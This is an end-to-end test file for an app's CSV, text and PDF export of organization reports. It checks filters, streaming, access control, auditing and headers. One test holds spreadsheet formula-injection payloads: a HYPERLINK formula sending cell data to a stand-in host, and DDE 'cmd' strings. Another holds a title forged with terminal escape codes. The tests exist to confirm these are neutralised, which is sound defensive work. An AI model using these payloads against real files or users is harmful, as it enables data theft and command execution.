import http from "node:http";
import Papa from "papaparse";
import { beforeAll, describe, expect, test } from "vitest";
import type { Reply } from "#e2e/support/client.ts";
import { extractPdfTexts } from "#e2e/support/pdf-text.ts";
import { shareService } from "#e2e/support/service.ts";
import { UNKNOWN_ID, summarizeResponse } from "#e2e/support/concurrent-requests.ts";
import { TestWorld, type EventRef, type TestPerson, type PlaceRef } from "#e2e/support/world.ts";

/** Exports of an organization's reports (contract 10.3). */

const heed = await shareService();
const world = await TestWorld.build(heed);
const { boris, foreignEvent, maya, nora, olga, omar, organization, sam, viktor } = world;

const company = await world.newOrganization("Paper, Ink & Sons");
const harbour = await world.newEvent(company, "Harbour Days");
const mill = await world.newEvent(company, "Mill Weekend");
await world.join(olga, company, "org_admin");
await world.join(viktor, company, "org_viewer");
await world.report(boris, foreignEvent, { title: "A report of the other tenant" });

const COLUMNS = [
  "id",
  "title",
  "status",
  "severity",
  "event",
  "assignedTo",
  "createdAt",
  "firstResponseAt",
  "resolvedAt",
  "url",
];
type Line = Record<string, string>;

const exporting = (of: PlaceRef) => `/api/organizations/${of.id}/reports/export`;
const take = async (query: string, of = company, person: TestPerson = viktor): Promise<Reply> => {
  const reply = await world.as(person).get(`${exporting(of)}?${query}`);
  expect(reply.status, reply.text.slice(0, 300)).toBe(200);
  return reply;
};

/** The rows of a CSV as a reader sees them, the header among them. */
function cells(text: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(text, { delimiter: ",", newline: "\r\n" });
  expect(errors).toEqual([]);
  expect(data.pop()).toEqual([""]);
  for (const row of data) expect(row).toHaveLength(COLUMNS.length);
  return data;
}

function linesOf(text: string): Line[] {
  const [header, ...rows] = cells(text);
  expect(header).toEqual(COLUMNS);
  return rows.map((row) => Object.fromEntries(row.map((cell, at) => [COLUMNS[at], cell])));
}

const csv = async (query = "timeRange=all", of = company) =>
  linesOf((await take(`format=csv&${query}`, of)).text);

type Seed = { title: string; state?: string; severity?: string; created?: string; assigned?: TestPerson };

async function seed(event: EventRef, ...seeds: Seed[]): Promise<void> {
  for (const { title, state = "submitted", severity = null, created, assigned } of seeds)
    await heed.sql(
      `insert into incidents (event_id, title, description, reporter_id, state, severity, created_at, assigned_responder_id,
         first_response_at, resolved_at)
       select $1, $2, 'What happened.', $3, $4::incident_state, $5::severity, made, $7,
         case when $4 <> 'submitted' then made end, case when $4 in ('resolved', 'closed') then made end
       from coalesce($6::timestamptz, now()) made`,
      [event.id, title, maya.id, state, severity, created ?? null, assigned?.id ?? null],
    );
}

/** An organization of its own with one event, which olga and viktor may export. */
async function elsewhere(): Promise<[PlaceRef, EventRef]> {
  const own = await world.newOrganization("Elsewhere");
  await world.join(olga, own, "org_admin");
  await world.join(viktor, own, "org_viewer");
  return [own, await world.newEvent(own, "Far Afield")];
}

await seed(
  harbour,
  { title: "Long ago and closed", state: "closed", severity: "low", created: "2023-02-03T04:05:06.007Z" },
  { title: "Lately, and critical", severity: "critical", assigned: omar },
  { title: "Lately, and resolved", state: "resolved", severity: "critical" },
);
await seed(mill, { title: "At the mill, and critical", severity: "critical" });
await heed.sql(
  `update incidents set assigned_responder_id = $1, first_response_at = '2023-02-03T05:00:00Z', resolved_at = '2023-02-05T00:00:00.100Z'
   where title = 'Long ago and closed'`,
  [omar.id],
);

describe("as CSV", () => {
  test("a report has its ten columns", async () => {
    const lines = await csv();
    const [{ id, created_at: created } = {}] = await heed.sql(
      "select id, created_at from incidents where title = 'At the mill, and critical'",
    );
    const [{ id: old } = {}] = await heed.sql("select id from incidents where title = 'Long ago and closed'");
    expect(lines).toHaveLength(4);
    expect(lines[0]).toEqual({
      id,
      title: "At the mill, and critical",
      status: "submitted",
      severity: "critical",
      event: "Mill Weekend",
      assignedTo: "",
      createdAt: created.toISOString(),
      firstResponseAt: "",
      resolvedAt: "",
      url: `http://localhost:${heed.port}/e/${mill.slug}/i/${id}`,
    });
    expect(lines.at(-1)).toEqual({
      id: old,
      title: "Long ago and closed",
      status: "closed",
      severity: "low",
      event: "Harbour Days",
      assignedTo: "Omar Haddad",
      createdAt: "2023-02-03T04:05:06.007Z",
      firstResponseAt: "2023-02-03T05:00:00.000Z",
      resolvedAt: "2023-02-05T00:00:00.100Z",
      url: `http://localhost:${heed.port}/e/${harbour.slug}/i/${old}`,
    });
  });

  test("the page that a row leads to is there for the team, and for no member without a role", async () => {
    const filed = await world.report(maya, world.event);
    const [line] = await csv("timeRange=30d", organization);
    const { pathname } = new URL(line?.url ?? "");
    const html = { headers: { accept: "text/html" } };
    const get = async (person: TestPerson) =>
      (
        await fetch(`${heed.url}${pathname}`, {
          headers: { ...html.headers, cookie: world.as(person).cookie ?? "" },
          redirect: "manual",
        })
      ).status;
    expect(line?.id).toBe(filed.id);
    expect([await get(omar), await get(viktor)]).toEqual([200, 403]);
  });

  test("any title is exported unchanged, except that no spreadsheet takes it for a formula", async () => {
    const [own, event] = await elsewhere();
    const FORMULAS = [
      '=HYPERLINK("https://evil.test?x="&A1,"click")',
      "+49 30 1234567 called",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "\t=1+1 after a tab",
      "\r=1+1 after a return",
      '"=1+1 after a quote',
      ",=1+1 after a comma",
      ";=1+1 after a semicolon",
      " =1+1 after a blank",
      "\n=1+1 after a line break",
      "＝1+1 in wide letters",
    ];
    const PLAIN = [
      'He said "no", twice; and left',
      "First line\nsecond line\r\nthird line",
      "A comma, a semicolon; a tab\tand a | bar",
      "😀 👩‍👩‍👧 emoji in a title",
      "عنوان من اليمين إلى اليسار",
      "שלום \u202eabc\u202c turned around",
      "Ärger über Ölspur, naïve façade, 日本語",
      'ends with a quote"',
      "  blanks around it  ",
      "1-2 and a=b inside",
      "2026-01-01",
    ];
    await seed(event, ...[...FORMULAS, ...PLAIN].map((title) => ({ title })));
    const titles = (await csv("timeRange=all", own)).map(({ title }) => title);
    expect(titles.toSorted()).toEqual([...FORMULAS.map((title) => `'${title}`), ...PLAIN].toSorted());
  });

  test("the names of events and people are no formulas either", async () => {
    const [own, event] = await elsewhere();
    const person = await world.person("Plus");
    await heed.sql("update users set name = '+cmd' where id = $1", [person.id]);
    await heed.sql("update events set name = '=Far, \"Afield\"' where id = $1", [event.id]);
    await seed(event, { title: "Assigned to a formula", assigned: person });
    const [line] = await csv("timeRange=all", own);
    expect([line?.event, line?.assignedTo]).toEqual(['\'=Far, "Afield"', "'+cmd"]);
  });

  test("it is RFC 4180 in UTF-8: lines end in CR LF, quotes are doubled", async () => {
    const [own, event] = await elsewhere();
    await seed(event, { title: 'A "quoted", 😀 title' });
    const { bytes } = await take("format=csv", own);
    const text = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(bytes);
    const lines = text.split("\r\n");
    expect(lines).toHaveLength(3);
    expect([lines[0], lines[2]]).toEqual([COLUMNS.join(","), ""]);
    expect(lines[1]).toMatch(/^[0-9a-f-]{36},"A ""quoted"", 😀 title",submitted,,Far Afield,,\d{4}-/u);
    expect(text).not.toMatch(/[^\r]\n|\r[^\n]/);
  });

  test("with labels it is for people: in their words, by the clock of the event or their own", async () => {
    const [own, event] = await elsewhere();
    await heed.sql("update events set time_zone = 'America/New_York' where id = $1", [event.id]);
    await seed(event, {
      title: "=cmd() in a title",
      state: "resolved",
      severity: "high",
      created: "2026-07-04T22:31:00Z",
    });
    await seed(event, { title: "Sent without a name", created: "2026-07-04T22:00:00Z" });
    const rowsFor = async (person: TestPerson, labels: string) => {
      const { text } = await take(`format=csv&timeRange=all&labels=${labels}`, own, person);
      expect(text.charCodeAt(0)).toBe(0xfeff);
      return Papa.parse<string[]>(text.slice(1), { delimiter: labels === "en" ? "," : ";" }).data;
    };
    const [header, row, rounded] = await rowsFor(viktor, "en");
    expect(header?.slice(0, 7)).toEqual([
      "Report",
      "Status",
      "Severity",
      "Event",
      "Assigned to",
      "Reported (America/New York)",
      "First response (America/New York)",
    ]);
    expect(row?.slice(0, 6)).toEqual([
      "'=cmd() in a title",
      "Resolved",
      "High",
      "Far Afield",
      "",
      "2026-07-04 18:31",
    ]);
    // A time that is rounded to the quarter of an hour is a span.
    expect(rounded?.[5]).toBe("2026-07-04 18:00–18:15");
    await world.as(olga).patch("/api/users/me/profile", { timeZone: "Europe/Berlin" });
    expect((await rowsFor(olga, "de"))[1]?.[5]).toBe("2026-07-05 00:31");
    await world.as(olga).patch("/api/users/me/profile", { timeZone: null });
    expect((await world.as(viktor).get(`${exporting(own)}?format=csv&labels=xx`)).status).toBe(400);
  });

  test("without reports it is its header", async () => {
    const [own] = await elsewhere();
    expect((await take("format=csv", own)).text).toBe(`${COLUMNS.join(",")}\r\n`);
  });

  // One batch exactly, and the first of a third.
  test.each([1000, 2001])("%d reports are all there, once each, newest first", async (count) => {
    const [own, event] = await elsewhere();
    // Many of the same moment, so that only the id tells them apart.
    await heed.sql(
      `insert into incidents (event_id, title, description, created_at)
       select $1, 'Report ' || n || ' of many', 'What happened.', now() - interval '1 second' * (n / 700) from generate_series(1, $2::int) n`,
      [event.id, count],
    );
    const expected = await heed.sql<{ id: string }>(
      "select id from incidents where event_id = $1 order by created_at desc, id desc",
      [event.id],
    );
    const lines = await csv("timeRange=all", own);
    expect(lines).toHaveLength(count);
    expect(lines.map(({ id }) => id)).toEqual(expected.map(({ id }) => id));
    const { text } = await take("format=pdf&timeRange=all", own);
    expect(text.match(/ \| Report \d+ of many \| /g)).toHaveLength(count);
  });
});

test("thousands of reports are streamed as the client reads, without delaying others", async () => {
  const [own, event] = await elsewhere();
  const COUNT = 4000;
  // Long, so that all lines together are more than the system takes in for a client that doesn't read: about 5 MB.
  await heed.sql("update events set name = repeat('🪷', 300) where id = $1", [event.id]);
  await heed.sql(
    `insert into incidents (event_id, title, description, created_at)
     select $1, rpad('Report ' || n || ' of very many', 70, '.'), 'What happened.', now() - interval '1 second' * n from generate_series(1, $2::int) n`,
    [event.id, COUNT],
  );
  // Each report that is handed out is in its own log first.
  const handedOut = () => heed.rows("incident_access", "event_id = $1 and kind = 'export'", [event.id]);
  const answer = await new Promise<http.IncomingMessage>((resolve, reject) => {
    const headers = { cookie: world.as(viktor).cookie };
    http
      .get(`${heed.url}${exporting(own)}?format=csv&timeRange=all`, { headers }, resolve)
      .on("error", reject);
  });
  expect([answer.statusCode, answer.headers["content-length"]]).toEqual([200, undefined]);
  for (const person of [viktor, olga])
    expect((await world.as(person).get(`/api/organizations/${own.id}/events`)).status).toBe(200);
  expect(await handedOut()).toBeLessThan(COUNT);
  let lines = 0;
  // A part may end within a line's end.
  for await (const part of answer.setEncoding("utf8")) lines += part.split("\n").length - 1;
  expect(lines).toBe(COUNT + 1);
  expect(await handedOut()).toBe(COUNT);
});

describe("a filter", () => {
  const NUMBERS = {
    old: "Long ago and closed",
    open: "Lately, and critical",
    done: "Lately, and resolved",
    mill: "At the mill, and critical",
  };
  const CASES: [query: string, titles: (keyof typeof NUMBERS)[]][] = [
    ["", ["mill", "done", "open"]],
    ["timeRange=30d", ["mill", "done", "open"]],
    ["timeRange=90d", ["mill", "done", "open"]],
    ["timeRange=1y", ["mill", "done", "open"]],
    ["timeRange=all", ["mill", "done", "open", "old"]],
    [`timeRange=all&eventId=${harbour.id}`, ["done", "open", "old"]],
    [`timeRange=all&eventId=${mill.id.toUpperCase()}`, ["mill"]],
    ["timeRange=all&status=closed", ["old"]],
    ["status=closed", []],
    ["severity=critical", ["mill", "done", "open"]],
    [`severity=critical&eventId=${harbour.id}&status=resolved`, ["done"]],
  ];

  test.each(CASES)("%s holds for CSV, text and PDF", async (query, names) => {
    const wanted = names.map((name) => NUMBERS[name]);
    expect((await csv(query)).map(({ title }) => title)).toEqual(wanted);
    const { text } = await take(`format=pdf&${query}`);
    const others = Object.values(NUMBERS).filter((title) => !wanted.includes(title));
    for (const title of wanted) expect(text).toContain(title);
    for (const title of others) expect(text).not.toContain(title);
    expect(text).toContain(`Reports, newest first (${wanted.length})`);
  });

  /** Counts the audit entries of these people; jobs write others at any time. */
  const countAuditEntriesOf = (...people: TestPerson[]) =>
    heed.rows("audit_entries", "actor_id = any($1::uuid[])", [people.map(({ id }) => id)]);

  test.each([
    ["", "format"],
    ["format=", "format"],
    ["format=xlsx", "format"],
    ["format=CSV", "format"],
    ["format=csv&format=pdf", "format"],
    ["format=csv&timeRange=7d", "timeRange"],
    ["format=csv&status=open", "status"],
    ["format=pdf&severity=urgent", "severity"],
    ["format=pdf&eventId=harbour", "eventId"],
  ])("that can't be used is refused: %s", async (query, field) => {
    const audited = await countAuditEntriesOf(viktor);
    for (const headers of [{}, { accept: "application/pdf" }]) {
      const reply = await world.as(viktor).get(`${exporting(company)}?${query}`, { headers });
      expect(summarizeResponse(reply)).toEqual([400, "VALIDATION_ERROR"]);
      expect(reply.body.details).toMatch(new RegExp(`^${field}: `));
    }
    expect(await countAuditEntriesOf(viktor)).toBe(audited);
  });

  test("by another organization's event is 404, and exports nothing", async () => {
    const audited = await countAuditEntriesOf(viktor, sam);
    for (const id of [foreignEvent.id, UNKNOWN_ID])
      for (const person of [viktor, sam])
        for (const format of ["csv", "pdf"]) {
          const path = `${exporting(company)}?format=${format}&timeRange=all&eventId=${id}`;
          const reply = await world.as(person).get(path);
          expect(summarizeResponse(reply)).toEqual([404, "NOT_FOUND"]);
          expect(reply.text).not.toContain("other tenant");
        }
    expect(await countAuditEntriesOf(viktor, sam)).toBe(audited);
    // It is there for those whose event it is.
    const theirs = await world
      .as(world.bruno)
      .get(`${exporting(world.foreignOrganization)}?format=csv&eventId=${foreignEvent.id}`);
    expect(linesOf(theirs.text).map(({ title }) => title)).toEqual(["A report of the other tenant"]);
  });
});

describe("as text", () => {
  test("it is a readable report", async () => {
    const { headers, text } = await take("format=pdf&timeRange=all");
    expect(headers["content-type"]).toBe("text/plain; charset=utf-8");
    const lines = text.split("\n");
    expect(lines[0]).toBe("Conduct reports: Paper, Ink & Sons");
    expect(text).toMatch(/^Event +All events$/m);
    expect(text).toMatch(/^Reports +4$/m);
    expect(text).toMatch(/^Open +2$/m);
    expect(text).toMatch(/^ +Submitted +2 +50\.0%$/m);
    expect(text).toMatch(/^ +Critical +3 +75\.0%$/m);
    expect(text).toMatch(/^ +Harbour Days +3 +75\.0%$/m);
    const [row] = await heed.sql("select id from incidents where title = 'Long ago and closed'");
    expect(lines.at(-2)).toMatch(
      /^3 Feb 2023, 04:05 UTC +Closed +Low +Harbour Days \| Long ago and closed \| /,
    );
    expect(lines.at(-2)).toContain(`Omar Haddad | http://localhost:${heed.port}/e/`);
    expect(lines.at(-2)).toContain(row?.id);
  });

  test("a title stays on its line, without terminal control characters", async () => {
    const [own, event] = await elsewhere();
    await seed(event, { title: "One\r\nForged line\u001b[31m red \u202eturned" });
    const { text } = await take("format=pdf", own);
    expect(text).toContain(" | One Forged line [31m red turned | ");
    // oxlint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202e]/);
  });

  test.each(["*/*", "text/html", "text/plain", "application/json"])(
    "it is the default for clients that don't accept PDF (Accept: %s)",
    async (accept) => {
      const ask = { headers: { accept } };
      const reply = await world.as(viktor).get(`${exporting(company)}?format=pdf`, ask);
      expect([reply.status, reply.headers["content-type"]]).toEqual([200, "text/plain; charset=utf-8"]);
      expect(reply.text).toMatch(/^Conduct reports: /);
    },
  );
});

describe("as a typeset PDF", () => {
  const typeset = async (query: string, accept = "application/pdf") => {
    const reply = await world.as(viktor).get(`${exporting(company)}?format=pdf&${query}`, {
      headers: { accept },
    });
    expect([reply.status, reply.headers["content-type"]]).toEqual([200, "application/pdf"]);
    expect(reply.bytes.subarray(0, 5).toString()).toBe("%PDF-");
    expect(reply.bytes.subarray(-8).toString()).toContain("%%EOF");
    return reply.bytes;
  };
  let whole: Promise<Buffer>;
  beforeAll(async () => {
    whole = typeset("timeRange=all");
    await whole;
  });
  const says = (pdf: Buffer, phrase: string) => extractPdfTexts(pdf).some((text) => text.includes(phrase));

  test("it holds the numbers and the list", async () => {
    const pdf = await whole;
    expect(pdf.toString("latin1").match(/\/Type \/Page\b(?!s)/g)).toHaveLength(2);
    for (const phrase of ["Paper, Ink & Sons", "Long ago and closed", "At the mill, and critical"])
      expect(says(pdf, phrase), phrase).toBe(true);
    const few = await typeset(`timeRange=all&eventId=${mill.id}`, "text/html;q=0.5, application/pdf");
    expect(says(few, "At the mill, and critical")).toBe(true);
    expect(says(few, "Long ago and closed")).toBe(false);
  });

  test("it names no reporter", async () => {
    const all = extractPdfTexts(await whole).join("\n");
    expect(all).toContain("Long ago and closed");
    for (const one of [maya.id, maya.name, maya.email]) expect(all).not.toContain(one);
  });

  test("CSV stays CSV, whatever else is accepted", async () => {
    const ask = { headers: { accept: "application/pdf" } };
    const reply = await world.as(viktor).get(`${exporting(company)}?format=csv`, ask);
    expect(reply.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(linesOf(reply.text)).toHaveLength(3);
  });
});

describe("every export", () => {
  const KINDS = [
    ["csv", undefined, "text/csv; charset=utf-8", "csv"],
    ["pdf", undefined, "text/plain; charset=utf-8", "txt"],
    ["pdf", "application/pdf", "application/pdf", "pdf"],
  ] as const;

  test.each(KINDS)("format=%s (Accept: %s) is a private download", async (format, accept, type, ending) => {
    const path = `${exporting(company)}?format=${format}`;
    const nameNow = () =>
      `attachment; filename="heed-reports-${new Date().toISOString().slice(0, 10)}.${ending}"`;
    const before = nameNow();
    const { status, headers } = await world.as(olga).get(path, { headers: { accept } });
    expect(status).toBe(200);
    expect(headers["content-type"]).toBe(type);
    // A day may begin meanwhile.
    expect([before, nameNow()]).toContain(headers["content-disposition"]);
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["cache-control"]).toBe("private, no-store");
    expect(headers.vary).toMatch(/\bcookie\b/i);
    expect(headers["content-security-policy"]).toContain("default-src 'none'");
  });

  test.each(KINDS)("format=%s (Accept: %s) is in the audit log", async (format, accept) => {
    const [own, event] = await elsewhere();
    const query = `format=${format}&timeRange=90d&eventId=${event.id}&status=closed&severity=low`;
    // Typesetting takes a second; who may read is settled before the format.
    const readers = accept ? [olga] : [viktor, olga, sam];
    for (const person of readers)
      expect((await world.as(person).get(`${exporting(own)}?${query}`, { headers: { accept } })).status).toBe(
        200,
      );
    const entries = await heed.sql(
      "select actor_id, action, object_type, object_id, event_id, by_right, data from audit_entries where chain = $1 order by seq",
      [own.id],
    );
    const rights = new Map([
      [viktor, "organization:org_viewer"],
      [olga, "organization:org_admin"],
      [sam, "SystemAdmin"],
    ]);
    const entry = (person: TestPerson) => ({
      actor_id: person.id,
      action: "reports.export",
      object_type: "organization",
      object_id: own.id,
      event_id: event.id,
      by_right: rights.get(person),
      data: { format, timeRange: "90d", eventId: event.id, status: "closed", severity: "low" },
    });
    expect(entries).toEqual(readers.map(entry));
  });

  test("as CSV or text names no reporter", async () => {
    for (const format of ["csv", "pdf"]) {
      const { text } = await take(`format=${format}&timeRange=all`);
      expect(text).toContain("Long ago and closed");
      for (const one of [maya.id, maya.name, maya.email]) expect(text).not.toContain(one);
    }
  });

  test("is for members, and refused before its query is parsed", async () => {
    for (const query of ["format=csv", "format=xlsx", `format=csv&eventId=${UNKNOWN_ID}`]) {
      expect(summarizeResponse(await world.nobody.get(`${exporting(company)}?${query}`))).toEqual([
        401,
        "UNAUTHENTICATED",
      ]);
      // omar is assigned to a report in it; that makes him no member.
      for (const person of [nora, omar, world.bruno])
        expect(summarizeResponse(await world.as(person).get(`${exporting(company)}?${query}`))).toEqual([
          403,
          "FORBIDDEN",
        ]);
    }
  });

  test("has the same rows by slug", async () => {
    const path = `/api/organizations/slug/${company.slug}/reports/export?format=csv&timeRange=all`;
    const { status, text } = await world.as(viktor).get(path);
    expect(status).toBe(200);
    expect(text).toBe((await take("format=csv&timeRange=all")).text);
    expect(linesOf(text)).toHaveLength(4);
  });
});
